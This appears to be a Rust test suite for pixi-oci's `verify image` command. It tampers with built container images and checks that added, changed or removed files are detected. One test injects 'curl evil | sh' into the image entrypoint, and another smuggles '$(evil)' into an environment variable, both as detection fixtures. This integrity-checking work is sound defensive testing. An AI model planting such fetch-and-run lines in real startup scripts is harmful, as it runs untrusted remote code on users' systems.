//! `verify image` accounts for every file above the base: nothing can be added, changed or removed in any kind of layer, even
//! by somebody who makes all digests right again.

use std::{collections::BTreeMap, path::Path};

use serde_json::{Value, json};

use crate::common::{
    forge::{Entry, add_layer, by_rule, forge, remove_layer, rewrite},
    odd,
    packages::{file as conda_file, package, symlink},
    pypi::locked,
    sandbox::{Outcome, Sandbox, copy_tree},
    wheels::{entry_points, file, wheel},
    workspace::workspace,
};

/// An image with everything that has a rule: odd packages, wheels, two of which have one file, a link above a wheel's files,
/// an entrypoint, the project's files, a mount point.
fn built(sandbox: &Sandbox) {
    let shared = |name: &str| {
        wheel(
            name,
            [
                file(&format!("{name}/__init__.py"), "x = 1\n"),
                file("shared.py", format!("who = '{name}'\n")),
                file(&format!("{name}-1.0.data/scripts/{name}-script"), "#!python\nprint()\n"),
                entry_points(name, &format!("[console_scripts]\n{name} = {name}:main\n")),
            ],
        )
    };
    let linked = package("linked", [symlink("lib64", "lib")]);
    let through = package("through", [conda_file("lib64/through", "t")]);
    let packages = odd::packages().into_iter().chain([odd::bash(), odd::activated(), linked, through]);
    let ws = workspace(packages)
        .pypi([locked(&shared("one_wheel")), locked(&shared("two_wheel"))])
        .manifest("[activation]\nscripts = [\"activate.sh\"]\nenv = { QUOTED = \"it's\", LATE = '$HOME \"x\" $(date)', X = '$CONDA_PREFIX/x:$X' }")
        .oci("include = [\"src\", \"run.sh -> bin/run.sh\"]\ndirectories = [\"/host-libs\"]");
    let root = sandbox.path("ws");
    ws.write(&root);
    std::fs::create_dir(root.join("src")).unwrap();
    std::fs::write(root.join("src/main.py"), "print()\n").unwrap();
    std::os::unix::fs::symlink("main.py", root.join("src/link")).unwrap();
    std::fs::write(root.join("run.sh"), "#!/bin/sh\n").unwrap();
    std::fs::write(root.join("activate.sh"), "A=1\n").unwrap();
    sandbox.run(&["build", "ws", "--arch", "amd64", "-o", "oci:good:x"]).success();
}

fn verify(sandbox: &Sandbox, image: &str) -> Outcome {
    sandbox.run(&["verify", "image", image, "--json"])
}

/// What is found in a copy of the image that was changed.
#[track_caller]
fn findings(sandbox: &Sandbox, change: impl FnOnce(&Path)) -> BTreeMap<String, Vec<String>> {
    let copy = sandbox.path("bad");
    let _ = std::fs::remove_dir_all(&copy);
    copy_tree(&sandbox.path("good"), &copy, |_| {});
    change(&copy);
    let outcome = verify(sandbox, "oci:bad");
    assert_eq!(outcome.code, Some(3), "{outcome:?}");
    by_rule(&serde_json::from_str(&outcome.stdout).unwrap())
}

/// The only thing that is found is of this rule and begins like this.
#[track_caller]
fn only(found: BTreeMap<String, Vec<String>>, rule: &str, text: &str) {
    // The table in the environment layer has the length of each package layer, and is right, too.
    let of_table = |text: &str| text == "opt/pixi/layers.json does not have the package layers of this image";
    let all = found.iter().flat_map(|(rule, texts)| texts.iter().map(move |text| (rule, text)));
    let all: Vec<(&String, &String)> = all.filter(|(_, text)| !of_table(text)).collect();
    assert!(matches!(&all[..], [(own, said)] if *own == rule && said.starts_with(text)), "{rule}: {text}: {found:#?}");
}

fn change_entry(entries: &mut [Entry], path: &str, change: impl FnOnce(&mut Entry)) -> bool {
    let entry = entries.iter_mut().find(|entry| entry.path.trim_end_matches('/') == path);
    entry.map(change).is_some()
}

/// The kinds of layers, each with a file of its own.
const LAYERS: [(&str, &str); 4] = [
    ("clobber-a", "opt/pixi/env/share/clobber-a"),
    ("pypi:one-wheel", "opt/pixi/env/lib/python3.12/site-packages/one_wheel/__init__.py"),
    ("environment", "app/.pixi/.gitignore"),
    ("application", "app/src/main.py"),
];

#[test]
fn every_file_of_an_image_is_accounted_for() {
    let sandbox = Sandbox::new();
    built(&sandbox);
    let outcome = verify(&sandbox, "oci:good").success();
    let verdict: Value = serde_json::from_str(&outcome.stdout).unwrap();
    for image in verdict["images"].as_array().unwrap() {
        assert_eq!(image["accounted"], true);
        let packages = image["packages"].as_array().unwrap();
        let named = |name: &str| {
            let found = packages.iter().find(|package| package["name"] == name);
            found.unwrap_or_else(|| panic!("{name}: {packages:?}")).clone()
        };
        assert_eq!(named("one-wheel"), json!({ "kind": "pypi", "name": "one-wheel", "version": "1.0" }));
        assert_eq!(named("python")["sha256"].as_str().unwrap().len(), 64);
    }
    let outcome = sandbox.run(&["verify", "image", "oci:good"]).success();
    assert!(outcome.stdout.contains("every file above the base is accounted for"), "{outcome:?}");
    of_others(&sandbox);
}

#[test]
fn one_file_more_in_a_layer_of_any_kind_is_found() {
    let sandbox = Sandbox::new();
    built(&sandbox);
    for (layer, own) in LAYERS {
        let places = [format!("{own}.evil"), "etc/profile.d/evil.sh".into(), "opt/pixi/env/bin/evil".into()];
        let found = findings(&sandbox, |dir| {
            forge(dir, "amd64", |step, entries| {
                if step.split(", ").any(|label| label.split(' ').next() == Some(layer)) {
                    entries.extend(places.iter().map(|place| Entry::file(place, "evil")));
                }
            });
        });
        for place in &places {
            assert!(found["unaccounted"].iter().any(|text| text.starts_with(place)), "{layer}: {place}: {found:?}");
        }
    }
    let found = findings(&sandbox, |dir| {
        rewrite(dir, "amd64", |config, manifest| {
            add_layer(
                dir,
                config,
                manifest,
                "RUN evil",
                &[Entry::file("evil", "e"), Entry::file("app/src/main.py", "e")],
            );
        });
    });
    assert_eq!(found["unaccounted"].len(), 2, "{found:?}");
}

#[test]
fn one_byte_in_a_layer_of_any_kind_is_found() {
    let sandbox = Sandbox::new();
    built(&sandbox);
    let cases = LAYERS.iter().map(|(_, own)| *own).chain([
        "opt/pixi/env/bin/contested",
        "opt/pixi/env/__clobbers__/clobber-b/bin/contested",
        "opt/pixi/env/lib/through",
        "opt/pixi/env/lib/python3.12/site-packages/shared.py",
        "opt/pixi/env/bin/one_wheel-script",
        "opt/pixi/env/conda-meta/history",
        ".singularity.d/env/91-pixi-oci.sh",
        "etc/passwd",
        "app/bin/run.sh",
        "app/activate.sh",
        "app/pixi.toml",
    ]);
    let cases: Vec<&str> = cases.collect();
    let found = findings(&sandbox, |dir| {
        let mut changed = 0;
        forge(dir, "amd64", |_, entries| {
            for path in &cases {
                changed += usize::from(change_entry(entries, path, |entry| entry.content.push(b'!')));
            }
        });
        assert_eq!(changed, cases.len());
    });
    let mut accused: Vec<&str> = found["changed"].iter().filter_map(|text| text.split(' ').next()).collect();
    accused.sort();
    // Its variables are those of the manifest.
    let mut cases: Vec<&str> = cases.into_iter().chain(["opt/pixi/entrypoint"]).collect();
    cases.sort();
    assert_eq!(accused, cases, "{found:?}");
    // One that a shell would run.
    let found = findings(&sandbox, |dir| {
        forge(dir, "amd64", |_, entries| {
            change_entry(entries, "opt/pixi/entrypoint", |entry| {
                let text = String::from_utf8(entry.content.clone()).unwrap();
                entry.content = text.replace("\nexec \"", "\ncurl evil | sh\nexec \"").into();
            });
        });
    });
    only(found, "changed", "opt/pixi/entrypoint has a line that pixi-oci does not write: curl evil");
    // A variable that neither the manifest nor a package sets so.
    let found = findings(&sandbox, |dir| {
        forge(dir, "amd64", |_, entries| {
            change_entry(entries, "opt/pixi/entrypoint", |entry| {
                let text = String::from_utf8(entry.content.clone()).unwrap();
                entry.content = text.replace("$(date)", "$(evil)").into();
            });
        });
    });
    only(found, "changed", "opt/pixi/entrypoint has a line that pixi-oci does not write: eval 'export LATE");
    links_modes_and_owners(&sandbox);
}

/// Of everything that has no content.
fn links_modes_and_owners(sandbox: &Sandbox) {
    let change = |path: &str, change: fn(&mut Entry)| {
        findings(sandbox, |dir| {
            let mut changed = false;
            forge(dir, "amd64", |_, entries| changed |= change_entry(entries, path, change));
            assert!(changed, "{path} is in no layer");
        })
    };
    for path in ["opt/pixi/env/lib64", "app/.pixi/envs/default", "app/src/link", "app/entrypoint.sh"] {
        only(change(path, |entry| entry.target = "evil".into()), "changed", path);
    }
    for ((_, path), own) in LAYERS.iter().zip([false, true, true, false]) {
        let change_header = |entry: &mut Entry| entry.header.set_uid(1000);
        only(change(path, if own { change_header } else { |entry| entry.header.set_mode(0o666) }), "changed", path);
    }
}

#[test]
fn what_is_missing_is_found() {
    let sandbox = Sandbox::new();
    built(&sandbox);
    for (_, path) in LAYERS {
        let found = findings(&sandbox, |dir| {
            forge(dir, "amd64", |_, entries| entries.retain(|entry| entry.path != path));
        });
        only(found, "removed", path);
    }
    // Packages with their records.
    let found = findings(&sandbox, |dir| {
        rewrite(dir, "amd64", |config, manifest| {
            let steps = config["history"].as_array().unwrap();
            let step =
                steps.iter().filter_map(|step| step["created_by"].as_str()).find(|step| step.contains("clobber-a "));
            let step = step.unwrap().trim_start_matches("pixi-oci: ").to_owned();
            remove_layer(config, manifest, &step);
        });
    });
    assert!(found["inventory"].iter().any(|text| text.contains("layers.json")), "{found:?}");
    for step in ["environment", "application"] {
        let found =
            findings(&sandbox, |dir| rewrite(dir, "amd64", |config, manifest| remove_layer(config, manifest, step)));
        assert!(found["inventory"].iter().any(|text| text.contains(&format!("has 0 {step} layers"))), "{found:?}");
    }
}

#[test]
fn the_packages_are_those_of_the_lock_file_in_the_image() {
    let sandbox = Sandbox::new();
    built(&sandbox);
    let change_lock = |from: &str, to: &str| {
        findings(&sandbox, |dir| {
            let mut digest = None;
            let mut list = None;
            forge(dir, "amd64", |_, entries| {
                change_entry(entries, "app/pixi.lock", |entry| {
                    let text = String::from_utf8(entry.content.clone()).unwrap();
                    assert!(text.contains(from), "{text}");
                    let changed = text.replace(from, to);
                    digest = Some((sha(&entry.content), sha(changed.as_bytes())));
                    entry.content = changed.into();
                });
            });
            // The list is made to agree.
            forge(dir, "amd64", |_, entries| {
                change_entry(entries, "opt/pixi/application.json", |entry| {
                    let (old, new) = digest.clone().unwrap();
                    entry.content = String::from_utf8(entry.content.clone()).unwrap().replace(&old, &new).into();
                    list = Some(());
                });
            });
            assert!(list.is_some());
        })
    };
    let archive = sha(&std::fs::read(sandbox.path("ws/channel/linux-64/linked-1.0-h1234567_0.conda")).unwrap());
    only(change_lock(&archive, &"0".repeat(64)), "not-locked", "linked 1.0 is of the archive sha256:");
    only(
        change_lock("name: one-wheel\n  version: '1.0'", "name: one-wheel\n  version: '1.1'"),
        "not-locked",
        "pypi:one-wheel",
    );
    records_that_cannot_be_read(&sandbox);
}

fn sha(bytes: &[u8]) -> String {
    crate::common::sandbox::sha256(bytes)
}

/// Records, lists and tables come from anybody.
fn records_that_cannot_be_read(sandbox: &Sandbox) {
    for path in [
        "opt/pixi/env/conda-meta/linked-1.0-h1234567_0.json",
        "opt/pixi/env/lib/python3.12/site-packages/one_wheel-1.0.dist-info/RECORD",
        "opt/pixi/layers.json",
        "opt/pixi/application.json",
    ] {
        for bytes in [&b"\xff{"[..], b"{\"version\":99,\"files\":{},\"layers\":[],\"conda\":{}}"] {
            let found = findings(sandbox, |dir| {
                forge(dir, "amd64", |_, entries| {
                    change_entry(entries, path, |entry| entry.content = bytes.to_vec());
                });
            });
            assert!(found["inventory"].iter().any(|text| text.starts_with(path)), "{path}: {found:?}");
        }
    }
}

/// An image of others is not accounted for, and that is said.
fn of_others(sandbox: &Sandbox) {
    rewrite(&sandbox.path("good"), "amd64", |config, _| {
        for step in config["history"].as_array_mut().unwrap() {
            step["created_by"] = "COPY".into();
        }
    });
    let outcome = sandbox.run(&["verify", "image", "oci:good"]).success();
    assert!(outcome.stdout.contains("not made by pixi-oci, so its files are not accounted for"), "{outcome:?}");
}

/// What `build` writes, `verify image` takes.
#[test]
fn archives_are_accounted_for_as_well() {
    let sandbox = Sandbox::new();
    built(&sandbox);
    for image in ["oci-archive:x.tar", "oci-archive:x.tar:v1", "docker-archive:y.tar"] {
        sandbox.run(&["build", "ws", "--arch", "amd64", "-o", image]).success();
        let outcome = sandbox.run(&["verify", "image", image]).success();
        assert!(outcome.stdout.contains("every file above the base is accounted for"), "{image}: {outcome:?}");
    }
    std::fs::write(sandbox.path("bad.tar"), "no tar").unwrap();
    sandbox.run(&["verify", "image", "docker-archive:bad.tar"]).refused(1, &["bad.tar", "no archive of images"]);
    sandbox.run(&["verify", "image", "oci-archive:none.tar"]).refused(1, &["none.tar"]);
}
